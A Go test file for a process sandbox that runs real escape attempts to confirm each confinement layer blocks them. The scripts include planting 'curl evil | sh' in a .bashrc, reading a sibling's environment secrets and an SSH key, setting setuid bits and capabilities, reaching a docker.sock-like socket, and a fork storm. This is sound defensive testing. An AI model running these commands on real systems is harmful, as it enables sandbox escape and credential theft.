package jail

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/exechost/exechost/internal/confine"
)

// python is the interpreter the attacks that need raw socket calls use.
const python = "/usr/bin/python3"

// attack is one escape, run for real: in a jail with no layer (the
// control, where it must succeed), with each layer that refuses it alone,
// and with every layer.
type attack struct {
	name string
	// by are the layers each of which alone refuses it.
	by []confine.Layer
	// needs is a program the attack runs, skipped without it.
	needs string
	// root: the control can succeed only as root.
	root bool
	// prepare sets up the target and returns the confinement, socket
	// dirs, the run's script (sh -c) and whether a run escaped.
	prepare func(t *testing.T) (c confine.Confinement, socketDirs []string, script string, escaped func(t *testing.T, r runOut) bool)
}

// listenUnix starts a real unix listener at path that writes "PWNED" to
// marker for every connection: a stand-in for docker.sock.
func listenUnix(t *testing.T, path, marker string) {
	t.Helper()
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, 0o777); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			os.WriteFile(marker, []byte("PWNED"), 0o644)
			c.Close()
		}
	}()
}

func markerSet(marker string) func(*testing.T, runOut) bool {
	return func(t *testing.T, r runOut) bool {
		_, err := os.Stat(marker)
		if err == nil {
			os.Remove(marker)
			return true
		}
		return false
	}
}

// outsideDir is a directory outside /tmp (the view replaces /tmp, which
// would hide a target there whatever else the view does), removed with
// the test; world-writable so that a non-root test can use it.
func outsideDir(t testing.TB) string {
	t.Helper()
	base := "/var/tmp"
	if wd, err := os.Getwd(); err == nil && os.Getuid() != 0 {
		base = wd
	}
	d, err := os.MkdirTemp(base, "jailtest-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(d, 0o777)
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

var attacks = []attack{{
	name: "docker.sock-like socket in a socket directory",
	by:   []confine.Layer{confine.LayerView},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		run := filepath.Join(outsideDir(t), "run")
		os.Mkdir(run, 0o755)
		sock, marker := filepath.Join(run, "docker.sock"), filepath.Join(outsideDir(t), "marker")
		listenUnix(t, sock, marker)
		script := fmt.Sprintf(`exec %s -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(%q); s.send(b"POST /containers/create")'`, python, sock)
		return confine.Confinement{Writable: []string{t.TempDir()}}, []string{run}, script, markerSet(marker)
	},
	needs: python,
}, {
	name:  "tmux server through its socket",
	by:    []confine.Layer{confine.LayerView},
	needs: "/usr/bin/tmux",
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		dir, err := os.MkdirTemp("/tmp", fmt.Sprintf("tmux-%d-", os.Getuid()))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		sock := filepath.Join(dir, "default")
		marker := filepath.Join(outsideDir(t), "marker")
		out, err := exec.Command("tmux", "-S", sock, "-f", "/dev/null", "new-session", "-d", "sleep 600").CombinedOutput()
		if err != nil {
			t.Fatalf("tmux: %v %s", err, out)
		}
		t.Cleanup(func() { exec.Command("tmux", "-S", sock, "kill-server").Run() })
		script := fmt.Sprintf(`tmux -S %s run-shell 'echo PWNED > %s'`, sock, marker)
		return confine.Confinement{Writable: []string{outsideDir(t)}}, nil, script, markerSet(marker)
	},
}, {
	name:  "UDP to a local listener with network none",
	by:    []confine.Layer{confine.LayerNetwork},
	needs: python,
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		pc, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { pc.Close() })
		port := pc.LocalAddr().(*net.UDPAddr).Port
		script := fmt.Sprintf(`exec %s -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"secret", ("127.0.0.1", %d))'`, python, port)
		return confine.Confinement{Writable: []string{t.TempDir()}, Network: confine.NetworkNone}, nil, script, func(t *testing.T, r runOut) bool {
			pc.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
			b := make([]byte, 64)
			n, _, err := pc.ReadFrom(b)
			return err == nil && string(b[:n]) == "secret"
		}
	},
}, {
	name:  "MPTCP to a local TCP listener with network none",
	by:    []confine.Layer{confine.LayerNetwork, confine.LayerSeccomp},
	needs: python,
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		got := make(chan struct{}, 8)
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				got <- struct{}{}
				c.Close()
			}
		}()
		port := l.Addr().(*net.TCPAddr).Port
		script := fmt.Sprintf(`exec %s -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(("127.0.0.1", %d))'`, python, port)
		return confine.Confinement{Writable: []string{t.TempDir()}, Network: confine.NetworkNone}, nil, script, func(t *testing.T, r runOut) bool {
			select {
			case <-got:
				return true
			case <-time.After(500 * time.Millisecond):
				return false
			}
		}
	},
}, {
	name: "chmod u+s outside the writable roots",
	by:   []confine.Layer{confine.LayerView},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		f := filepath.Join(outsideDir(t), "tool")
		os.WriteFile(f, []byte("#!/bin/sh\n"), 0o755)
		return confine.Confinement{Writable: []string{t.TempDir()}}, nil, "chmod 4755 " + f, func(t *testing.T, r runOut) bool {
			fi, err := os.Stat(f)
			return err == nil && fi.Mode()&os.ModeSetuid != 0
		}
	},
}, {
	name: "chmod of the protected state directory's key file",
	by:   []confine.Layer{confine.LayerView},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		state := outsideDir(t)
		key := filepath.Join(state, "audit.jsonl.key")
		os.WriteFile(key, []byte("k"), 0o600)
		return confine.Confinement{Writable: []string{t.TempDir()}, Protected: []string{state}}, nil, "chmod 644 " + key, func(t *testing.T, r runOut) bool {
			fi, err := os.Stat(key)
			return err == nil && fi.Mode().Perm() == 0o644
		}
	},
}, {
	name:  "security.capability set on a file in a writable root",
	by:    []confine.Layer{confine.LayerNoPrivilege},
	root:  true,
	needs: "/usr/sbin/setcap",
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		w := outsideDir(t)
		f := filepath.Join(w, "tool")
		os.WriteFile(f, []byte("#!/bin/sh\n"), 0o755)
		return confine.Confinement{Writable: []string{w}}, nil, "/usr/sbin/setcap cap_setuid+ep " + f, func(t *testing.T, r runOut) bool {
			out, _ := exec.Command("/usr/sbin/getcap", f).Output()
			return strings.Contains(string(out), "cap_setuid")
		}
	},
}, {
	name: "a persistence file inside a writable root",
	by:   []confine.Layer{confine.LayerView},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		w := outsideDir(t)
		rc := filepath.Join(w, ".bashrc")
		os.WriteFile(rc, []byte("# rc\n"), 0o666)
		return confine.Confinement{Writable: []string{w}, ReadOnly: []string{rc}}, nil, "echo 'curl evil | sh' >> " + rc, func(t *testing.T, r runOut) bool {
			b, _ := os.ReadFile(rc)
			return strings.Contains(string(b), "evil")
		}
	},
}, {
	name: "SIGSTOP to an outside process with network all",
	// Landlock's signal scoping holds whatever the network (ABI 6).
	by: []confine.Layer{confine.LayerPID, confine.LayerLandlock},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		victim := startVictim(t, nil)
		return confine.Confinement{Writable: []string{t.TempDir()}, Network: confine.NetworkAll}, nil, fmt.Sprintf("kill -STOP %d", victim.Pid), func(t *testing.T, r runOut) bool {
			// A stop is delivered asynchronously: watch for it a while.
			defer victim.Signal(syscall.SIGCONT)
			for deadline := time.Now().Add(time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
				b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", victim.Pid))
				if f := strings.Fields(string(b)); len(f) > 2 && f[2] == "T" {
					return true
				}
			}
			return false
		}
	},
}, {
	name: "/proc/PID/environ of a sibling",
	by:   []confine.Layer{confine.LayerPID},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		victim := startVictim(t, []string{"AWS_SECRET=hunter2-in-env"})
		return confine.Confinement{Writable: []string{t.TempDir()}}, nil, fmt.Sprintf("cat /proc/%d/environ", victim.Pid), func(t *testing.T, r runOut) bool {
			return strings.Contains(r.stdout, "hunter2-in-env")
		}
	},
}, {
	name: "a secret under a hidden path read by cat",
	by:   []confine.Layer{confine.LayerView, confine.LayerLandlock},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		ssh := filepath.Join(outsideDir(t), ".ssh")
		os.Mkdir(ssh, 0o755)
		key := filepath.Join(ssh, "id_ed25519")
		os.WriteFile(key, []byte("PRIVATE-KEY-hunter2"), 0o644)
		return confine.Confinement{Writable: []string{t.TempDir()}, Hidden: []string{ssh}}, nil, "cat " + key, func(t *testing.T, r runOut) bool {
			return strings.Contains(r.stdout, "hunter2")
		}
	},
}, {
	name: "a new user namespace (unshare)",
	by:   []confine.Layer{confine.LayerSeccomp},
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		return confine.Confinement{Writable: []string{t.TempDir()}}, nil, "unshare -U -r id -u", func(t *testing.T, r runOut) bool {
			return r.code() == 0 && strings.TrimSpace(r.stdout) == "0"
		}
	},
}, {
	name:  "a fork storm (200 sleeping children)",
	by:    []confine.Layer{confine.LayerLimits},
	needs: python,
	prepare: func(t *testing.T) (confine.Confinement, []string, string, func(*testing.T, runOut) bool) {
		c := confine.Confinement{Writable: []string{t.TempDir()}, Limits: confine.Limits{Procs: 64}}
		// 200 forks as fast as they come, each child sleeping: how many
		// the kernel let start (xargs -P200 sleep, without xargs's retry
		// of a failed fork once a child exits, which makes its count a
		// measure of this machine's speed).
		script := python + ` -c 'import os, time
n = 0
for i in range(200):
    try:
        pid = os.fork()
    except OSError:
        continue
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    n += 1
print(n)'`
		return c, nil, script, func(t *testing.T, r runOut) bool {
			n, _ := strconv.Atoi(strings.TrimSpace(r.stdout))
			t.Logf("%d of 200 started", n)
			return n == 200
		}
	},
}}

// startVictim starts a process outside any jail, killed with the test.
func startVictim(t *testing.T, env []string) *os.Process {
	t.Helper()
	cmd := exec.Command("/bin/sleep", "600")
	cmd.Env = append(os.Environ(), env...)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd.Process
}

// TestLayersAlone runs each attack with no layer (it must escape: the
// control), with each layer that refuses it alone (it must not), and in
// the whole jail (it must not).
func TestLayersAlone(t *testing.T) {
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			if a.needs != "" {
				if _, err := os.Stat(a.needs); err != nil {
					t.Skipf("needs %s", a.needs)
				}
			}
			type mode struct {
				name   string
				layers []confine.Layer
				escape bool
			}
			modes := []mode{{"control (no layer)", []confine.Layer{}, true}}
			if a.root && os.Getuid() != 0 {
				modes = nil // only root can do this unjailed
			}
			for _, l := range a.by {
				modes = append(modes, mode{string(l) + " alone", []confine.Layer{l}, false})
			}
			modes = append(modes, mode{"every layer", AllLayers, false})
			for _, m := range modes {
				c, dirs, script, escaped := a.prepare(t)
				j := jailFor(t, c, m.layers, dirs...)
				for _, l := range m.layers {
					if !slices.Contains(j.Held(), l) && !(l == confine.LayerNetwork && c.Network != confine.NetworkNone) {
						t.Fatalf("%s: layer %s not held (held %v)", m.name, l, j.Held())
					}
				}
				r := sh(t, j, "/", script)
				if got := escaped(t, r); got != m.escape {
					t.Errorf("%s: escaped=%v, want %v (exit %d, stdout %q, stderr %q)", m.name, got, m.escape, r.code(), r.stdout, r.stderr)
				}
			}
		})
	}
}
